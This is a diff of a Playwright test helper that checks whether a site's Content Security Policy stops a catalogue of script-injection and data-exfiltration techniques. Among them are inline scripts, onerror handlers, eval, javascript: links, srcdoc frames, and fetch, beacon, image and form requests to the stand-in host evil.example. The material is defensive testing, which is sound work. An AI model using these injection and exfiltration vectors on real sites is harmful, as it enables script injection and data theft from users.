@@ -1,105 +1,54 @@
-import type { Page, Route } from '@playwright/test';
+import type { Page } from '@playwright/test';
+
+/** For what runs in the page. */
+declare function ran(name: string): void;
 
 const EVIL = 'https://evil.example';
 
+/** Runs in the page: adds an element, as code that got into it would. */
+function add(tag: string, properties: object, attributes: Record<string, string> = {}): HTMLElement {
+  const element = Object.assign(document.createElement(tag), properties);
+  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
+  return document.body.appendChild(element);
+}
+const outlineOf = (element: Element | null) => getComputedStyle(element ?? document.body).outlineWidth;
+
 /**
  * Ways to get code into a page or data out of it. Each runs in the page, in a timer: what Playwright evaluates by itself
- * is above the policy. It counts as run when it calls `ran(name)`, restyles, or when its request leaves the browser.
+ * is above the policy. It counts as run when it calls `ran(name)`, or when its request leaves the browser for `address`.
  */
-const inPage: Record<string, (name: string) => void> = {
-  'inline script': (name) => {
-    const script = document.createElement('script');
-    script.textContent = `ran('${name}')`;
-    document.body.append(script);
-  },
-  'inline script set as HTML': (name) => {
-    const script = document.createElement('script');
-    script.innerHTML = `ran('${name}')`;
-    document.body.append(script);
-  },
-  'handler attribute': (name) => {
-    const button = document.createElement('button');
-    button.setAttribute('onclick', `ran('${name}')`);
-    document.body.append(button);
-    button.click();
-  },
-  'innerHTML with a handler': (name) => {
-    const box = document.createElement('div');
-    box.innerHTML = `<img src="data:," onerror="ran('${name}')">`;
-    document.body.append(box);
-  },
-  'insertAdjacentHTML with an image of ours': (name) => {
-    document.body.insertAdjacentHTML('beforeend', `<img src="https://evil.example/html?${encodeURIComponent(name)}">`);
-  },
-  eval: (name) => {
-    eval(`ran('${name}')`);
-  },
-  'Function constructor': (name) => {
-    new Function(`ran('${name}')`)();
-  },
-  'timer with a string': (name) => {
-    setTimeout(`ran('${name}')`);
-  },
-  'script of another site': (name) => {
-    const script = document.createElement('script');
-    script.src = `https://evil.example/script.js?${encodeURIComponent(name)}`;
-    document.body.append(script);
-  },
-  'script of our site that no build made': (name) => {
-    const script = document.createElement('script');
-    script.src = `/planted.js?${encodeURIComponent(name)}`;
-    document.body.append(script);
-  },
-  'link that is a script': (name) => {
-    const link = document.createElement('a');
-    link.href = `javascript:ran('${name}')`;
-    document.body.append(link);
-    link.click();
-  },
-  'frame with a document of its own': (name) => {
-    const frame = document.createElement('iframe');
-    frame.setAttribute('srcdoc', `<script>parent.ran('${name}')</script>`);
-    document.body.append(frame);
-  },
+const inPage: Record<string, (name: string, address: string) => unknown> = {
+  'inline script': (name) => add('script', { textContent: `ran('${name}')` }),
+  'inline script set as HTML': (name) => add('script', { innerHTML: `ran('${name}')` }),
+  'handler attribute': (name) => add('button', {}, { onclick: `ran('${name}')` }).click(),
+  'innerHTML with a handler': (name) => add('div', { innerHTML: `<img src="data:," onerror="ran('${name}')">` }),
+  'insertAdjacentHTML with an image': (name, address) => document.body.insertAdjacentHTML('beforeend', `<img src="${address}">`),
+  eval: (name) => eval(`ran('${name}')`),
+  'Function constructor': (name) => new Function(`ran('${name}')`)(),
+  'timer with a string': (name) => setTimeout(`ran('${name}')`),
+  'script of another site': (name, address) => add('script', { src: address }),
+  'script of our site that no build made': (name) => add('script', { src: `/planted.js?${encodeURIComponent(name)}` }),
+  'link that is a script': (name) => add('a', { href: `javascript:ran('${name}')` }).click(),
+  'frame with a document of its own': (name) => add('iframe', {}, { srcdoc: `<script>parent.ran('${name}')</script>` }),
   worker: (name) => {
     const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
-    worker.onmessage = () => (window as unknown as { ran: (name: string) => void }).ran(name);
+    worker.onmessage = () => ran(name);
   },
   'style element': (name) => {
-    const style = document.createElement('style');
-    style.textContent = 'h1 { outline: 7px solid }';
-    document.head.append(style);
-    const outline = getComputedStyle(document.querySelector('h1') ?? document.body).outlineWidth;
-    if (outline === '7px') (window as unknown as { ran: (name: string) => void }).ran(name);
+    add('style', { textContent: 'h1 { outline: 7px solid }' });
+    if (outlineOf(document.querySelector('h1')) === '7px') ran(name);
   },
-  'style attribute': (name) => {
-    const box = document.createElement('div');
-    box.setAttribute('style', 'outline: 7px solid');
-    document.body.append(box);
-    if (getComputedStyle(box).outlineWidth === '7px') (window as unknown as { ran: (name: string) => void }).ran(name);
-  },
-  'fetch to another site': (name) => {
-    void fetch(`https://evil.example/fetch?${encodeURIComponent(name)}`, { mode: 'no-cors' }).catch(() => {});
-  },
-  'beacon to another site': (name) => {
-    navigator.sendBeacon(`https://evil.example/beacon?${encodeURIComponent(name)}`);
-  },
-  'picture of another site': (name) => {
-    new Image().src = `https://evil.example/picture?${encodeURIComponent(name)}`;
-  },
-  'form to another site': (name) => {
-    const form = document.createElement('form');
-    form.action = `https://evil.example/form?${encodeURIComponent(name)}`;
-    form.method = 'post';
-    form.target = '_blank';
-    document.body.append(form);
-    form.submit();
-  },
+  'style attribute': (name) => outlineOf(add('div', {}, { style: 'outline: 7px solid' })) === '7px' && ran(name),
+  'fetch to another site': (name, address) => fetch(address, { mode: 'no-cors' }).catch(() => {}),
+  'beacon to another site': (name, address) => navigator.sendBeacon(address),
+  'picture of another site': (name, address) => (new Image().src = address),
+  'form to another site': (name, address) =>
+    (add('form', { action: address, method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
   'base of another site': (name) => {
     const base = document.createElement('base');
     base.href = 'https://evil.example/';
     document.head.prepend(base);
-    if (document.baseURI === 'https://evil.example/') (window as unknown as { ran: (name: string) => void }).ran(name);
+    if (document.baseURI === base.href) ran(name);
     base.remove();
   },
 };
@@ -112,7 +61,6 @@ const inHtml: Record<string, (name: string) => string> = {
   'frame in the HTML': (name) => `<iframe srcdoc="<script>parent.ran('${name}')</script>"></iframe>`,
 };
 
-/** Their names. */
 export const attacks = [...Object.keys(inPage), ...Object.keys(inHtml)];
 
 /**
@@ -123,28 +71,30 @@ export const attacks = [...Object.keys(inPage), ...Object.keys(inHtml)];
 export async function startAttacks(page: Page, address: string): Promise<ReadonlySet<string>> {
   const worked = new Set<string>();
   await page.exposeFunction('ran', (name: string) => void worked.add(name));
-  const answer = (route: Route) => {
+  await page.context().route(/evil\.example\/\?|\/planted\.js\?/, (route) => {
     const name = decodeURIComponent(new URL(route.request().url()).search.slice(1));
     if (route.request().resourceType() !== 'script') worked.add(name);
     return route.fulfill({ contentType: 'text/javascript', body: `ran(${JSON.stringify(name)})` });
-  };
-  await page.context().route(`${EVIL}/**`, answer);
-  await page.context().route('**/planted.js?*', answer);
+  });
   await page.route(`**${address}`, async (route) => {
     const response = await route.fetch();
     const planted = Object.entries(inHtml).map(([name, html]) => html(name));
     const body = (await response.text()).replace('</main>', `${planted.join('')}</main>`);
     return route.fulfill({ response, body });
   });
-
   const code = Object.entries(inPage).map(([name, run]) => `${JSON.stringify(name)}: ${String(run)}`);
-  await page.addInitScript({ content: `window.attacks = { ${code.join(',')} }` });
+  await page.addInitScript({
+    content: `${String(add)}; const outlineOf = ${String(outlineOf)}; window.attacks = { ${code.join(',')} }`,
+  });
   await page.goto(address);
   for (const name of Object.keys(inPage)) {
-    await page.evaluate((chosen) => {
-      const { attacks: known } = window as unknown as { attacks: typeof inPage };
-      setTimeout(() => known[chosen]?.(chosen));
-    }, name);
+    await page.evaluate(
+      ([chosen = '', to = '']) => {
+        const { attacks: known } = window as unknown as { attacks: typeof inPage };
+        setTimeout(() => known[chosen]?.(chosen, to));
+      },
+      [name, `${EVIL}/?${encodeURIComponent(name)}`],
+    );
   }
   return worked;
 }
